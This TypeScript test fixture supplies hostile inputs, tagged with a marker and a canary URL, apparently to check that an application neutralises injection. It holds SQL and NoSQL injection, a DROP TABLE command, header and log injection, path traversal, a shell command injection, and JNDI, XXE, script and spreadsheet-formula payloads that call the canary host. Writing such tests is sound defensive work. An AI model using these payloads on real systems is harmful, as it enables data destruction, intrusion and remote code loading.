/** Part of every hostile text, so that the text is recognized wherever it appears. */
export const MARK = 'zq7mark'

/** Returns hostile texts for fields that take text. `canary` is a URL that must not be called. */
export function hostileTexts(canary: string): readonly string[] {
  return [
    `' OR '1'='1' -- ${MARK}`,
    `${MARK}'; DROP TABLE payments; --`,
    `"; DELETE FROM links WHERE 1=1; -- ${MARK}`,
    `${MARK}') UNION SELECT sql FROM sqlite_master --`,
    `1; ATTACH DATABASE '/tmp/${MARK}' AS x; --`,
    `${MARK}' || (SELECT value FROM meta) || '`,
    `%${MARK}_[a-z]`,
    `${MARK}\\' OR 1=1 --`,
    `{"$ne":"${MARK}"}`,
    `{"$where":"sleep(1000)","x":"${MARK}"}`,
    `${MARK}\r\n{"level":"fatal","time":"2026-01-01T00:00:00.000Z","msg":"forged"}`,
    `${MARK}\r\nX-Injected: 1\r\n\r\n`,
    `${MARK}\u001b[2J\u001b]0;title\u0007`,
    `${MARK}\u0000tail`,
    `${MARK}\u2028\u202e\ufeff`,
    `${MARK}\ud800`,
    `../../v1/payment_gateways/access_token?${MARK}`,
    `..%2f..%2fv1%2f${MARK}`,
    `${MARK}/../..;/x`,
    `__proto__`,
    `constructor.prototype.${MARK}`,
    `{{7*7}}\${7*7}<%= ${MARK} %>`,
    `\`touch /tmp/${MARK}\`; $(touch /tmp/${MARK})`,
    `\${jndi:${canary}/${MARK}}`,
    `=HYPERLINK("${canary}/${MARK}")`,
    `<script src="${canary}/${MARK}"></script>`,
    `<!DOCTYPE x [<!ENTITY e SYSTEM "${canary}/${MARK}">]><x>&e;</x>`,
    `${canary}/${MARK}`,
    `file:///etc/passwd?${MARK}`,
  ]
}
